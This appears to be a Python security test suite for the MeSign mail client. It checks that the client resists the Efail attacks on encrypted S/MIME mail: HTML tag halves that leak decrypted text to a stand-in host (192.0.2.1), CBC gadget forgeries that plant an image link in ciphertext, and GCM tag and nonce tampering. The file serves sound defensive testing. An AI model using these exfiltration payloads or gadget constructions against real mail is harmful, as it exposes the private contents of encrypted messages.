#!/usr/bin/python3
# SPDX-FileCopyrightText: 2026 The MeSign developers
# SPDX-License-Identifier: GPL-3.0-or-later
"""Encrypted mail that was tampered with on the way: the attacks of *Efail* (2018), and what became of them since.

usage: test_efail.py MESIGNCTL
"""

import os
import re
import sys
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent.parent))

# pylint: disable=wrong-import-position
import tap
from mesign_samples import cms, der, mail
from mesign_samples.attack import SECRET, TEXT, Attack, codes, head, html, plain
from mesign_samples.envelopes import TAGGED, encrypt, encrypt_authenticated, encrypt_tagged_in_plain, new_content_key, transport

BLOCK = 16
LETTER = html("<p>Dear Wang,</p><p>" + SECRET + ". Tell nobody, and burn this before reading.</p>")


def blocks(octets):
    return [octets[at: at + BLOCK] for at in range(0, len(octets), BLOCK)]


def xor(*some):
    result = bytes(BLOCK)
    for one in some:
        result = bytes(a ^ b for a, b in zip(result, one))
    return result


def ciphertext_of(envelope):
    """IV and ciphertext blocks of an EnvelopedData, as they go over the wire."""
    content = der.split(der.content_of(der.content_of(der.split(der.content_of(envelope))[1])))[2]
    _name, algorithm, sealed = der.split(der.content_of(content))
    return der.content_of(der.split(der.content_of(algorithm))[1]), blocks(der.content_of(sealed))


def with_ciphertext(envelope, initial, sealed):
    """The same envelope with another IV and other blocks: what anyone can make who sees it pass by."""
    old_initial, old_sealed = ciphertext_of(envelope)
    kind, wrapper = der.split(der.content_of(envelope))
    version, recipients, content = der.split(der.content_of(der.content_of(wrapper)))
    name, algorithm, _old = der.split(der.content_of(content))
    assert old_sealed and algorithm.endswith(old_initial)
    return der.seq(kind, der.context(0, der.seq(version, recipients, der.seq(
        name, algorithm[:-BLOCK] + initial, der.context(0, b"".join(sealed), constructed=False)))))


class Exfiltration(Attack):
    """I. An encrypted part between two halves of a tag."""

    def assert_shut(self, said, nested=True):
        """Nothing was decrypted, and whoever reads is told that something is in it."""
        everything = str(said)
        self.assertNotIn("WINTERGREEN", everything)
        self.assertEqual(said["encryption"]["status"], "none")
        if nested:
            self.assertIn(("encrypted", "not-opened"), [(layer["type"], layer["status"]) for layer in said["layers"]])
            self.assertIn("encrypted-part", codes(said))

    def test_between_two_halves_of_a_tag(self):
        for sealed in (self.sealed(LETTER), self.sealed_with_tag(LETTER), self.sealed(self.signed())):
            for before, after in (("<img src=\"http://192.0.2.1/", "\">"), ("<img src='http://192.0.2.1/", "'>"), ("<a href=\"http://192.0.2.1/", "\">x</a>"),
                                  ("<form action=http://192.0.2.1/><textarea name=x>", "</textarea><input type=submit></form>"),
                                  ("<style>@import \"http://192.0.2.1/", "\";</style>"), ("<base href='http://192.0.2.1/", "'>"),
                                  ("<!--", "-->"), ("<blockquote>", "</blockquote>")):
                for subtype in ("mixed", "related", "alternative", "unknown"):
                    self.assert_shut(self.show(head() + mail.multipart(html(before), sealed, html(after), subtype=subtype)))

    def test_alone_in_a_multipart(self):
        """Not the whole content of the mail, even where there is nothing beside it."""
        sealed = self.sealed(LETTER)
        for entity in (mail.multipart(sealed), mail.multipart(sealed, plain("")), mail.multipart(mail.multipart(sealed)),
                       mail.attached(head() + sealed), mail.multipart(mail.attached(head() + sealed)),
                       mail.multipart(b"\r\n" + head() + sealed, subtype="digest"),
                       self.signed(mail.multipart(plain("x"), sealed)), self.signed(mail.attached(head("eve@evil.test") + sealed)),
                       mail.opaque(cms.compress(mail.multipart(sealed)), "compressed-data")):
            self.assert_shut(self.show(head() + entity))

    def test_labelled_as_something_else(self):
        der_octets = encrypt(LETTER, transport(self.wang))
        for kind, name in (("application/octet-stream", "smime.p7m"), ("application/x-pkcs7-mime", "x"), ("application/octet-stream", "x.bin"),
                           ("application/pkcs7-signature", "smime.p7s"), ("text/plain", "smime.p7m"), ("image/png", "x.png")):
            part = mail.part(der_octets, f"{kind}; name={name}", encoding="base64")
            said = self.show(head() + mail.multipart(html("<img src=\"http://192.0.2.1/"), part, html("\">")))
            self.assert_shut(said, nested=name == "smime.p7m" and kind != "text/plain" or kind == "application/x-pkcs7-mime")

    def test_as_the_signed_part(self):
        """Eve takes the ciphertext, and signs it: it is a layer, but her signature says nothing of the text."""
        sealed = self.sealed(plain(SECRET))
        said = self.show(head("eve@evil.test") + self.signed(sealed, self.eve))
        self.assertEqual((said["signature"]["status"], said["encryption"]["status"]), ("none", "decrypted"))
        self.assertIn("signature-outside-encryption", codes(said))
        self.assertFalse(any(part["signed"] for part in said["body"]["parts"]))

    def test_inside_of_an_encrypted_mail(self):
        """Eve encrypts to Wang a mail that has an older one in it."""
        inner = mail.multipart(plain("Please answer!"), self.sealed(plain(SECRET)))
        for outer in (self.sealed(inner), self.sealed_with_tag(inner), self.sealed(self.signed(inner, self.eve))):
            said = self.show(head("eve@evil.test") + outer)
            self.assertNotIn("WINTERGREEN", str(said))
            self.assertIn("encrypted-part", codes(said))
            self.assertIn("Please answer!", said["body"]["text"])


class Gadgets(Attack):
    """II. CBC is malleable: blocks of a known plaintext become any other."""

    def setUp(self):
        super().setUp()
        self.envelope = encrypt(LETTER, transport(self.wang))
        self.initial, self.sealed_blocks = ciphertext_of(self.envelope)
        self.known = blocks(LETTER)

    def gadgets(self, after, *wanted):
        """Blocks that decrypt to rubbish and then to what is wanted, in turn. The gadget is the first block, whose plaintext anyone can guess."""
        made = []
        for text in wanted:
            made += [xor(self.initial, self.known[0], text), self.sealed_blocks[0]]
        return self.sealed_blocks[:after] + made

    def tampered(self, initial, sealed, cut=0):
        said = self.show(head() + mail.opaque(with_ciphertext(self.envelope, initial, sealed), "enveloped-data"))
        if cut == 0 and said["encryption"]["status"] == "failed":
            self.assertEqual(said["body"]["text"], "")
        return said

    def test_untouched(self):
        said = self.tampered(self.initial, self.sealed_blocks)
        self.assertIn(SECRET, said["body"]["text"])

    def test_an_image_appears(self):
        """The classic: the rest of the text becomes the address of an image. It decrypts, for CBC has nothing to refuse it by."""
        pattern = re.compile(r"<img class=\"[^\"<>\0]*\" src=\"http://a/[^\"<>\0]*WINTERGREEN")
        for _attempt in range(50):
            forged = self.gadgets(4, b"<img class=\"    ", b"\" src=\"http://a/")
            said = self.tampered(self.initial, forged + self.sealed_blocks[3:])
            self.assertEqual((said["encryption"]["status"], said["encryption"]["authenticated"]), ("decrypted", False))
            if pattern.search(said["body"]["html"]):
                break
            self.setUp()
        self.assertRegex(said["body"]["html"], pattern, "the rubbish between had no quotation mark in it")
        self.assertEqual(said["signature"]["status"], "none")
        self.assertIn("remote-content", codes(said))
        self.assertNotIn("http://a/", said["body"]["text"])

    def test_the_first_block(self):
        """The IV belongs to no checksum: the kind of the content can be chosen freely."""
        wanted = b"Content-Type: te" if self.known[0] != b"Content-Type: te" else b"X-ontent-Type: t"
        said = self.tampered(xor(self.initial, self.known[0], wanted), self.sealed_blocks)
        self.assertFalse(said["encryption"]["authenticated"])
        self.assertEqual(said["signature"]["status"], "none")

    def test_under_a_signature(self):
        """What Li signed before she encrypted is refused when a single bit of it has changed."""
        self.envelope = encrypt(self.signed(LETTER), transport(self.wang))
        self.initial, self.sealed_blocks = ciphertext_of(self.envelope)
        self.assertEqual(self.tampered(self.initial, self.sealed_blocks)["signature"]["status"], "valid")
        middle = next(number for number, block in enumerate(blocks(self.signed(LETTER))) if b"Dear" in block)
        for number in (middle, middle + 1, middle + 2):
            changed = list(self.sealed_blocks)
            changed[number] = xor(changed[number], b"\0" * 15 + b"\1")
            self.assertNotIn(self.tampered(self.initial, changed)["signature"]["status"], ("valid", "partial"))

    def test_swapped_doubled_and_lost_blocks(self):
        whole = self.sealed_blocks
        for name, changed in (("swapped", whole[:4] + [whole[5], whole[4]] + whole[6:]), ("doubled", whole[:5] + whole[4:]), ("lost", whole[:4] + whole[5:]),
                              ("first lost", whole[1:]), ("cut", whole[:5]), ("last alone", whole[-1:]), ("turned", whole[::-1]), ("twice", whole + whole)):
            with self.subTest(name):
                said = self.tampered(self.initial, changed)
                self.assertIn(said["encryption"]["status"], ("decrypted", "failed"))
                self.assertFalse(said["encryption"]["authenticated"])
                self.assertEqual(said["signature"]["status"], "none")
        for changed in ([whole[0][:7]], whole[:-1] + [whole[-1][:15]], []):
            said = self.tampered(self.initial, changed) if changed else self.show(
                head() + mail.opaque(with_ciphertext(self.envelope, self.initial, []), "enveloped-data"))
            self.assertEqual((said["encryption"]["status"], said["body"]["text"], said["body"]["parts"]), ("failed", "", []))

    def test_with_a_tag_all_of_it_fails(self):
        content = LETTER
        for alter in (lambda sealed: sealed[:16] + sealed[32:48] + sealed[16:32] + sealed[48:], lambda sealed: sealed[:-1], lambda sealed: sealed + b"\0" * 16,
                      lambda sealed: sealed[16:], lambda sealed: b"", lambda sealed: bytes((sealed[0] ^ 1,)) + sealed[1:],
                      lambda sealed: sealed[:-1] + bytes((sealed[-1] ^ 128,))):
            said = self.show(head() + self.sealed_with_tag(content, alter=alter))
            self.assertEqual((said["encryption"]["status"], said["encryption"]["reason"]), ("failed", "bad-tag"))
            self.assertEqual((said["body"]["text"], said["body"]["html"], said["body"]["parts"], said["attachments"]), ("", None, [], []))


class Tags(Attack):
    """III. AES-GCM is as strong as its tag is long."""

    def judge(self, **how):
        said = self.show(head() + self.sealed_with_tag(plain(SECRET), **how))
        if said["encryption"]["status"] != "decrypted":
            self.assertNotIn("WINTERGREEN", str(said))
        return said["encryption"]["status"], said["encryption"]["reason"]

    def test_lengths(self):
        for cipher in ("aes-128-gcm", "aes-192-gcm", "aes-256-gcm"):
            for size in (12, 13, 14, 15, 16):
                self.assertEqual(self.judge(cipher=cipher, tag_size=size), ("decrypted", None), size)
            for size in (0, 1, 4, 8, 11):
                self.assertEqual(self.judge(cipher=cipher, tag_size=size), ("failed", "bad-tag-length"), size)

    def test_lies_about_the_length(self):
        for size, said in ((4, 16), (12, 16), (16, 12), (11, 12), (4, 12), (15, 16), (16, 4), (16, 17), (16, 1000), (16, -16), (4, 4)):
            with self.subTest((size, said)):
                self.assertEqual(self.judge(tag_size=size, said_tag_size=said), ("failed", "bad-tag-length"))
        self.assertEqual(self.judge(alter_tag=lambda tag: tag + b"\0")[1], "bad-tag-length")

    def test_wrong_tag(self):
        for size in (12, 16):
            for place in (0, size - 1):
                alter = lambda tag, place=place: tag[:place] + bytes((tag[place] ^ 1,)) + tag[place + 1:]  # noqa: E731
                self.assertEqual(self.judge(tag_size=size, alter_tag=alter), ("failed", "bad-tag"))
        self.assertEqual(self.judge(alter_tag=lambda tag: bytes(16)), ("failed", "bad-tag"))

    def test_nonce(self):
        for size in (8, 11, 13, 16, 64):
            self.assertEqual(self.judge(nonce=os.urandom(size)), ("failed", "bad-nonce"))
        self.assertEqual(self.judge(nonce=os.urandom(12)), ("decrypted", None))

    def test_authenticated_attributes(self):
        attributes = [cms.content_type(), cms.signing_time()]
        whole = encrypt_authenticated(plain(SECRET), transport(self.wang), attributes=attributes)
        self.assertEqual(self.show(head() + mail.opaque(whole))["encryption"]["status"], "decrypted")
        kind, wrapper = der.split(der.content_of(whole))
        version, recipients, content, given, tag = der.split(der.content_of(der.content_of(wrapper)))
        for other in (b"", der.context(1, attributes[0]), der.context(1, der.content_of(given) + attributes[0]), der.context(1, attributes[1])):
            changed = der.seq(kind, der.context(0, der.seq(version, recipients, content, other, tag)))
            said = self.show(head() + mail.opaque(changed))
            self.assertEqual((said["encryption"]["status"], said["encryption"]["reason"]), ("failed", "bad-tag"))
            self.assertEqual(said["body"]["text"], "")

    def test_as_plain_envelope(self):
        """With the tag's cipher but without its container: nothing checks the tag, so nothing is read."""
        said = self.show(head() + mail.opaque(encrypt_tagged_in_plain(plain(SECRET), transport(self.wang)), "enveloped-data"))
        self.assertEqual((said["encryption"]["status"], said["encryption"]["reason"]), ("unsupported", "aead-in-enveloped-data"))
        self.assertNotIn("WINTERGREEN", str(said))

    def test_downgraded_to_cbc(self):
        """The key of a GCM mail under CBC: the attacker picks blocks, and hopes that a reply quotes what they decrypt to."""
        key = new_content_key("aes-256-gcm")
        nonce, text = os.urandom(12), plain(SECRET)
        sealed = TAGGED["aes-256-gcm"].seal(key, nonce, text, b"")[:-16]
        counters = [nonce + number.to_bytes(4, "big") for number in range(2, 2 + len(sealed) // 16)]
        for octets in (b"".join(blocks(sealed)[:-1]) + sealed[:16], b"".join(counters), sealed[:len(sealed) // 16 * 16]):
            envelope = encrypt(b"", transport(self.wang), key=key, alter=lambda _old, new=octets: new)
            said = self.show(head() + mail.opaque(envelope, "enveloped-data"))
            self.assertNotIn("WINTERGREEN", str(said))
            self.assertFalse(said["encryption"]["authenticated"])
            self.assertIn(said["encryption"]["status"], ("failed", "decrypted"))
        swapped = encrypt_authenticated(text, transport(self.wang)).replace(der.oid(TAGGED["aes-256-gcm"].oid), der.oid("2.16.840.1.101.3.4.1.42"))
        said = self.show(head() + mail.opaque(swapped, "authEnveloped-data"))
        self.assertEqual((said["encryption"]["status"], said["body"]["text"]), ("failed", ""))
        self.assertFalse(said["encryption"]["authenticated"])

    def test_signed_but_not_what_came(self):
        """authenticated means the ciphertext, not its sender: anyone can encrypt to Wang."""
        said = self.show(head() + self.sealed_with_tag(TEXT))
        self.assertTrue(said["encryption"]["authenticated"])
        self.assertEqual(said["signature"]["status"], "none")
        self.assertFalse(any(part["signed"] for part in said["body"]["parts"]))


if __name__ == "__main__":
    Attack.program = sys.argv[1]
    tap.main()
